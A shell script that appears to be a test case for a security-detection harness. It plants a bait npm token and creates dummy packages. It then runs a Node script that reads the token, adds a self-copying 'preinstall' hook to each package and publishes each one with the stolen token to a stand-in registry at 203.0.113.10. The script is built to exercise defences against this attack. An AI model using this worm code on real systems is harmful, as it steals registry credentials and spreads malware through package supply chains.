#!/bin/sh
. /opt/case/case.sh

echo '//registry.example.org/:_authToken=npm_baitbaitbaitbaitbaitbaitbaitbait0000' >/root/.npmrc
for p in colours left-pad tiny-args; do mkdir -p /srv/node_modules/$p; echo "{\"name\":\"$p\",\"version\":\"1.0.$(echo $p | wc -c)\",\"scripts\":{}}" >/srv/node_modules/$p/package.json; done
cat >/tmp/bundle.js <<'END'
const fs = require("fs"), t = /_authToken=(\S+)/.exec(fs.readFileSync(process.env.HOME + "/.npmrc", "utf8"))[1];
(async () => {
    for (const p of fs.readdirSync("/srv/node_modules")) {
        const f = `/srv/node_modules/${p}/package.json`, j = JSON.parse(fs.readFileSync(f));
        j.version = j.version.replace(/\d+$/, (n) => +n + 1); j.scripts.preinstall = "node bundle.js"; fs.writeFileSync(f, JSON.stringify(j)); fs.copyFileSync("/tmp/bundle.js", `/srv/node_modules/${p}/bundle.js`);
        await fetch("http://203.0.113.10:8080/" + p, { method: "PUT", headers: { Authorization: "Bearer " + t }, body: JSON.stringify({ _id: p, versions: { [j.version]: j } }) });
    }
})();
END
npm_lifecycle_event=preinstall sh -c 'node /tmp/bundle.js'
grep -q bundle.js /srv/node_modules/left-pad/package.json
took_place
